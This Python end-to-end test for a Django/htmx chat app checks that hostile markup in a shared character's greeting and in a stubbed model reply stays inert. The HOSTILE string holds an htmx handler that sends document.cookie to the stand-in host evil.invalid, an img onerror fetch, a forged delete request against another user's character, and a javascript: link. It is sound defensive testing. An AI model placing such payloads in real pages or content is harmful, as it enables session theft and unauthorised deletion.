"""Attack (issue 29): account B shares a character whose greeting holds markup htmx would obey —
a `data-hx-post` to A's private character's delete URL, a `data-hx-get` whose `hx-on` sends A's
cookies to another host —, an `<img onerror>` and a `javascript:` link; the model's reply says
the same. A opens a conversation with it and reloads: no request leaves for another host or the
delete URL, A's character is still there, and no script of the payload runs."""

from __future__ import annotations

import json
import subprocess
import sys

from playwright.sync_api import Page, Request

from tests.e2e.conftest import ROOT, Server, message_send, screenshot_take, turn_wait_done
from tests.stub_llm import Reply

_SETUP = """
import django, json, sys
django.setup()
from django.contrib.auth import get_user_model
from django.conf import settings
from personalab.lib.filestore.store import FileStore
from library.character_services import character_save
from chat.services.instances import instance_create
hostile = sys.argv[1]
store = FileStore(settings.PERSONALAB_DATA_DIR)
users = get_user_model().objects
admin = users.get(username="admin")
bob = users.filter(username="bob").first() or users.create_user("bob", password="bob-password-9")
secret = character_save(store, user=admin, data={"name": "A secret", "base_persona": "Mine.",
                                                 "visibility": "private"})
mallory = character_save(store, user=bob, data={"name": "Mallory", "base_persona": "A trickster.",
                                                "greeting": hostile.replace("SECRET", secret),
                                                "visibility": "shared"})
instance = instance_create(store, owner=admin, character_id=mallory)
print(json.dumps({"secret": secret, "instance": instance}))
"""

HOSTILE = ('<div data-hx-post="/library/characters/SECRET/delete" data-hx-trigger="load">a</div>\n'
           '<div data-hx-get="/library/" data-hx-trigger="load" data-hx-on--after-request='
           '"window.pwned=1;fetch(\'http://evil.invalid/?c=\'+document.cookie)">b</div>\n'
           '<img src=x onerror="window.pwned=1;fetch(\'http://evil.invalid/img\')">\n'
           '<a href="javascript:window.pwned=1" id="js-link">click me</a>\n'
           '<span style="position:fixed;inset:0" onmouseover="window.pwned=1">c</span>')


def _hostile_setup(server: Server) -> dict:
    done = subprocess.run([sys.executable, "-c", _SETUP, HOSTILE], cwd=ROOT, check=True,
                          capture_output=True, text=True, timeout=120,
                          env={**server.env, "DJANGO_SETTINGS_MODULE": "personalab.settings"})
    return json.loads(done.stdout.strip().splitlines()[-1])


def test_a_hostile_greeting_and_reply_send_nothing_and_run_nothing(page: Page,
                                                                  server: Server) -> None:
    ids = _hostile_setup(server)
    secret = ids["secret"]
    requests: list[Request] = []
    page.on("request", lambda request: requests.append(request))
    # A reply with the same markup, aimed at the same private character.
    server.stub.script(Reply(HOSTILE.replace("SECRET", secret), chunk_size=40))

    page.goto(f"{server.url}/instances/{ids['instance']}/")
    page.wait_for_selector("#messages .msg.assistant .md[data-rendered]")
    message_send(page, "hello")
    turn_wait_done(page)
    page.reload()
    page.wait_for_selector("#messages .msg.assistant .md[data-rendered]")
    page.locator("#messages .msg.assistant .md").last.hover()
    page.wait_for_timeout(1500)  # time for a load trigger or a handler to fire, if it could
    screenshot_take(page, "hostile_markup_inert")

    rendered = page.locator("#messages .msg.assistant .md")
    assert rendered.count() >= 2, "the greeting and the reply are both shown"
    assert "click me" in rendered.last.inner_text()
    assert page.evaluate("() => window.pwned") is None, "a payload script ran"
    leftovers = page.evaluate("""() => [...document.querySelectorAll('#messages .md *')]
        .flatMap(el => [...el.attributes].map(a => a.name + '=' + a.value))
        .filter(a => /^(data-|hx-|on|style)/.test(a) || /javascript:/i.test(a))""")
    assert leftovers == []

    elsewhere = [r.url for r in requests if not r.url.startswith(server.url)]
    assert elsewhere == [], f"requests left for another host: {elsewhere}"
    deletes = [r.url for r in requests if "/delete" in r.url or r.method == "DELETE"]
    assert deletes == []
    assert all(not r.url.endswith("/library/") for r in requests), "a hostile hx-get fired"
    assert page.request.get(f"{server.url}/library/characters/{secret}/").status == 200
    # Chromium reports the payload's own handler and style attributes as refused when the
    # sanitizer parses them (in an inert template, before they are removed): the policy's
    # second line of defence at work, not a broken feature of the page.
    payload = [text for text in page.csp_refused
               if not text.startswith(("Executing inline event handler", "Applying inline style"))]
    assert payload == []
    page.csp_refused.clear()
